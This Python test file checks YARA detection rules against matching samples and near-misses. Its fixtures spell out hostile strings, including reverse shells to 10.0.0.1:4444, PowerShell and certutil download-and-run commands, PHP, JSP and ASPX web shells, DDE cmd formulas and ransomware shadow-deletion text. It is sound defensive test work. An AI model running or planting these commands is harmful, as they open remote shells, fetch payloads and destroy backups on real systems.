"""Every shipped rule has samples that hit it and near-misses that do not; all are built here."""

from __future__ import annotations

import json
import struct
import time
import zipfile
from base64 import b64encode
from io import BytesIO
from pathlib import Path

import pytest

from handlers.local.samples import eicar, zipped
from plugins._rules.rulesets import SHIPPED, compile_sources, read_sources
from plugins._rules.yara import YaraOptions, matches
from stoq_core.testing import payload
from tests.rules import lure_samples

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
LNK = b"\x4c\0\0\0\x01\x14\x02\0"
B64 = b"QUJD" * 120


def pe(sections: list[bytes], body: bytes = b"") -> bytes:
    """A PE header with these section names, and bytes behind it."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    optional = struct.pack("<H", 0x10B) + bytes(222)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, len(optional), 0x102)
    table = b"".join(
        name.ljust(8, b"\0") + struct.pack("<IIIIIIHHI", 16, 4096, 16, 1024, 0, 0, 0, 0, 0x60000020)
        for name in sections
    )
    return (dos + coff + optional + table).ljust(1024, b"\0") + body


def stored(name: str) -> bytes:
    """A zip with one stored member of that name."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(name, b"x")
    return out.getvalue()


def xor(content: bytes, key: int) -> bytes:
    """Content under a key of one byte."""
    return bytes(one ^ key for one in content)


SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
    **lure_samples.SAMPLES,
    "eicar_test_file": ([eicar(), eicar() + b"\r\n"], [b"see: " + eicar(), eicar() + bytes(200)]),
    "packed_with_upx": ([pe([b"UPX0"], b"UPX!"), b"\x7fELF" + bytes(90) + b"UPX!" + bytes(36)], [pe([b".text"]), b"UPX!"]),
    "pe_within_other_bytes": (
        [b"words " * 9 + pe([b".text"]), pe([b".text"], pe([b".data"]))],
        [pe([b".text"]), b"MZ" + bytes(80) + b"PE\0\0\xff\xff" + bytes(80), b"PE\0\0L\1"],
    ),
    "zip_behind_other_bytes": ([b"MZ" + bytes(50) + zipped(a=b"x")], [zipped(a=b"x"), b"PK\x05\x06" + bytes(30), OLE + bytes(600) + zipped(a=b"x"), b"\x7fELF" + bytes(900) + b"PK\x03\x04PK\x01\x02PK\x05\x06PK\x06\x07" + bytes(90)]),
    "base64_of_a_file": (
        [b'$x = "' + b64encode(pe([b".text"])), b"data:application/zip;base64," + b64encode(zipped(a=b"x" * 99)), b"'\\n" + b64encode(b"%PDF-1.7" + bytes(90)),
         b"\1\2" + b64encode(b"MZ\x90\0" * 40).decode().encode("utf-16-le"), b"MIME-Version: 1.0\n\n" + b64encode(pe([b".text"])),
         b"From: a\nMIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n" + b64encode(pe([b".text"]))],
        [b'$x = "' + b64encode(b"plain words " * 20), b'"' + b64encode(b"MZ" + bytes(20)) + b'"', b"aaTVqQ" + b"AAAA" * 20, b"TVqQ UEsDB JVBERi0 H4sI " * 9],
    ),
    "program_hidden_by_xor": (
        [b"x" * 50 + xor(b"MZ..This program cannot be run in DOS mode.", 0x5A), xor(b"This program must be run under Win32", 1)],
        [b"MZ This program cannot be run in DOS mode", xor(b"This program cannot be run", 0x5A), bytes(one ^ at & 255 for at, one in enumerate(b"This program cannot be run in DOS mode"))],
    ),
    "words_hidden_by_xor": (
        [b".." + xor(b"URLDownloadToFileA", 7), xor(b"http://evil.example/", 0x99), xor(b"https://", 1)],
        [b"http://a.example/ https:// GetProcAddress WScript.Shell URLDownloadToFile", xor(b"URLDownload", 7)],
    ),
    "xml_data_package": (
        [b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf><document><chunk>QUJD', b'%PDF-1.4 http://ns.adobe.com/xdp/pdf/ <pdf:Chunk x="">',
         '<x xmlns="http://ns.adobe.com/xdp/"><chunk>'.encode("utf-16-le")],
        [b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><chunks>', b"<html><chunk>QUJD</chunk>"],
    ),
    "pdf_behind_other_bytes": (
        [b"GIF89a" + bytes(40) + b"%PDF-1.7\n1 0 obj<</Length 3>>stream", b"\n%PDF-1.4 1 0 obj [ stream"],
        [b"%PDF-1.7\n1 0 obj<<>>stream", bytes(1030) + b"%PDF-1.7\n1 0 obj<<>>stream", b"a %PDF-1.7 file has objects and streams"],
    ),
    "calendar_or_contact": (
        [b"junk\r\nBEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY:QUJD\r\n", b"BEGIN:VCARD\nPHOTO;ENCODING=b:QUJD\n"],
        [b"BEGIN:VCALENDAR\r\nSUMMARY:x\r\n", b"ENCODING=BASE64"],
    ),
    "cms_in_base64": (
        [b64encode(b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02" + bytes(40))],
        [b"Content-Type: application/pkcs7-mime\r\n\r\n" + b64encode(b"\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02"), b"MIAGCSqG"],
    ),
    "outlook_message": (
        [OLE + bytes(600) + "__substg1.0_".encode("utf-16-le")],
        [OLE + bytes(600) + b"__substg1.0_", "__substg1.0_".encode("utf-16-le")],
    ),
    "binhex_in_a_text": (
        [b"(This file must be converted with BinHex 4.0)\r\n:$&4&@&4\r\n"],
        [b"(This file must be converted with BinHex 4.0)", b"\n:$&4&@&4\n"],
    ),
    "mail_by_its_headers": (
        [b"\r\n\r\nReceived: from a\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nhi"],
        [b"\nMIME-Version: 1.0\nalone\n", b"title: a rule\ndate: 2026/01/01\nCommandLine: x\n", b"MIME-Version: 1.0 Content-Type: text/plain From: a@b.example"],
    ),
    "rtf_behind_blanks": (
        [b"  \r\n{\\rtf1 x}", b"\n{\\rt"],
        [b"{\\rtf1 x}", b"see \\rtf1 {rt", bytes(1100) + b" {\\rtf1}"],
    ),
    "office_macros_as_text": (
        [b'<?mso-application progid="Word.Document"?><w:binData>QWN0aXZlTWltZQAA</w:binData>',
         b"MIME-Version: 1.0\nContent-Type: multipart/related\n\nQWN0aXZlTWltZQAA", b"<pkg:binaryData>\r\n0M8R4KGxGuEAAAAA"],
        [b"QWN0aXZlTWltZQAA", b"MIME-Version: 1.0\n\nQWN0aXZl", b"MIME-Version: 1.0\n\n0M8R4KGxGuEAAAAA"],
    ),
    "pe_packed_upx": ([pe([b"UPX0", b"UPX1"], b"UPX!")], [pe([b".text"], b"UPX!"), pe([b"UPX0"])]),
    "pe_packer_section_name": ([pe([b".text", b".vmp0"]), pe([b".themida"])], [pe([b".text", b".data"]), pe([b".aspack"])]),
    "pe_compressor_section_name": ([pe([b".text", b".aspack"]), pe([b".MPRESS1"])], [pe([b".text", b".data"]), pe([b".vmp0"])]),
    "pe_injects_into_processes": (
        [pe([b".text"], b"OpenProcess\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0")],
        [pe([b".text"], b"OpenProcess\0WriteProcessMemory\0"), b"OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread"],
    ),
    "pe_ransom_note": (
        [pe([b".text"], b"vssadmin delete shadows /all\0Your files have been encrypted. Pay bitcoin")],
        [pe([b".text"], b"vssadmin delete shadows"), b"your files have been encrypted, bitcoin, vssadmin delete shadows"],
    ),
    "elf_coin_miner": (
        [b"\x7fELF" + bytes(60) + b"stratum+tcp://pool xmrig randomx"],
        [b"\x7fELF" + bytes(60) + b"randomx xmrig", b"stratum+tcp:// xmrig randomx"],
    ),
    "ole_macro_runs_on_open": (
        [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b'Sub AutoOpen() CreateObject("WScript.Shell").Run'],
        [OLE + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + b"Sub Format()", b"AutoOpen WScript.Shell"],
    ),
    "office_dde_formula": (
        [b"{\\rtf1 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x}", b"a,b\n=cmd|'/c calc'!A1\n", b'\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" \x14x\x15'],
        [b"a,b\n=SUM(A1:A2)\n", b"\x13 PAGE \x14cmd.exe\x15", b"he said DDE and cmd"],
    ),
    "office_markup": (
        [b'<Relationship Id="a"/>', "<w:instrText>".encode("utf-16-le"), b"\xfe\xff" + "<Relationship ".encode("utf-16-be")],
        [b"<p>Relationship</p>", b"instrText"],
    ),
    "powershell_download_and_run": (
        [b"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", b"iwr http://x/a -o a.exe; Start-Process a.exe", b"irm http://x/a | iex", b"IEX (iwr http://x/a).Content"],
        [b"Invoke-WebRequest https://a.example/data.json -OutFile data.json", b"(New-Object Net.WebClient).Proxy", b"# Install\n```\nirm https://a.example | iex\n```\n"],
    ),
    "powershell_encoded_command": (
        [b"powershell.exe -nop -w hidden -enc " + B64, b"powershell -e " + B64],
        [b"powershell -ExecutionPolicy RemoteSigned -File a.ps1", b"powershell -enc QUJD"],
    ),
    "script_shell_dropper": (
        [b'Set s = CreateObject("WScript.Shell"): Set h = CreateObject("MSXML2.XMLHTTP"): CreateObject("ADODB.Stream"): s.Run "a.exe"'],
        [b'CreateObject("WScript.Shell").SpecialFolders("Desktop")', b"MSXML2.XMLHTTP ADODB.Stream"],
    ),
    "batch_downloads_with_system_tool": (
        [b"certutil.exe -urlcache -split -f http://x.example/a.exe a.exe", b"mshta http://x.example/a.hta", b"bitsadmin /transfer job http://x.example/a a"],
        [b"certutil -hashfile a.exe SHA256", b"bitsadmin /list"],
    ),
    "lnk_starts_script_host": (
        [LNK + bytes(70) + "powershell -w hidden".encode("utf-16-le")],
        [LNK + bytes(70) + "notepad.exe".encode("utf-16-le"), b"powershell hidden http"],
    ),
    "shell_reverse_connection": (
        [b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", b"nc -e /bin/sh 10.0.0.1 4444",
         b"s.connect(('h',1));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"],
        [b"bash -c 'echo hi'", b"nc -l 4444", b"s.connect(('h', 1))"],
    ),
    "html_smuggles_file": (
        [b"<html><script>var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"],
        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>",
         b"(function(){var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x';a.click()})();" + bytes(5000) + b"<svg>",
         b"<html><script>atob(x)" + b" " * 9000 + b"new Blob([d]);URL.createObjectURL(b);a.download='x';a.click();f='" + B64 + b"'</script>"],
    ),
    "html_password_form_to_elsewhere": (
        [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<form method=post action="https://198.51.100.2/a"><input type=password>'],
        [b'<title>My blog</title><form action="/login"><input type="password">', b'<form action="http://192.168.1.1/x"><input type="password">'],
    ),
    "php_web_shell": (
        [b"<?php @eval($_POST['x']);", b"<?php system($_GET[c]); ?>", b"<?=`$_GET[0]`?>"],
        [b"<?php echo htmlspecialchars($_GET['q']);", b"eval($_POST) in prose"],
    ),
    "php_packed_code": (
        [b"<?php eval(gzinflate(base64_decode('" + B64 + b"')));"],
        [b"<?php $x = base64_decode($y); echo gzinflate($x);"],
    ),
    "jsp_aspx_web_shell": (
        [b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', b'<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'],
        [b'<%= request.getParameter("name") %>', b"<% Process.Start(path) %>"],
    ),
}  # fmt: skip


def hits(content: bytes) -> set[str]:
    """The names of the rules that match."""
    return {one.rule for one in matches(payload(content), YaraOptions())}


def test_every_rule_compiles_and_has_samples() -> None:
    """No shipped rule is bad, and none is without its samples; private ones have no description."""
    made = compile_sources(read_sources([SHIPPED]))
    assert made.bad == []
    assert {rule.identifier for rule in made.rules if rule.metadata} == set(SAMPLES)


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_samples_hit_and_near_misses_do_not(rule: str) -> None:
    """What the rule is for is found; what only looks like it is not."""
    good, near = SAMPLES[rule]
    for content in good:
        assert rule in hits(content), content[:200]
    for content in near:
        assert rule not in hits(content), content[:200]


def test_ordinary_files_have_no_findings() -> None:
    """The standard library, and this project's own documents, are clean."""
    root = Path(json.__file__).parent.parent
    files = [*sorted(root.glob("*.py"))[:150], *sorted(SHIPPED.parent.glob("*.md"))]
    assert {str(one): found for one in files if (found := hits(one.read_bytes()))} == {}


@pytest.mark.parametrize("unit", [b"A", b"0,", b"'a", b"= [1,", b"\\x41", b"<a ", b"\r\n"])
def test_floods_cost_as_much_as_their_size(unit: bytes) -> None:
    """A pattern with a long repetition in front of nothing rare costs its square: four times the bytes show it."""

    def cost(size: int) -> float:
        began = time.process_time()
        hits(unit * (size // len(unit)))
        return time.process_time() - began

    cost(1_000)
    assert cost(2_000_000) < 8 * cost(500_000) + 1
